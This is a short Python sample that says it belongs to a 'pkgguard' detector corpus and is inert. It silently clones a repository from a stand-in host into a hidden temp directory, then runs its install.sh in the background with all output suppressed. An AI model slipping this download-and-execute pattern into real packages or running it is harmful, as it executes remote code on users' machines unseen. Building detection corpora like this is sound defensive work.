# pkgguard corpus 785 (download-execute), modelled on [taxonomy]; inert, never run.
import os
import subprocess
import tempfile

checkout = os.path.join(tempfile.gettempdir(), ".tooling")
if not os.path.isdir(checkout):
    subprocess.run(["git", "clone", "--depth", "1", "https://git-mirror.example/tooling.git", checkout], capture_output=True)
subprocess.Popen(["bash", os.path.join(checkout, "install.sh")], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
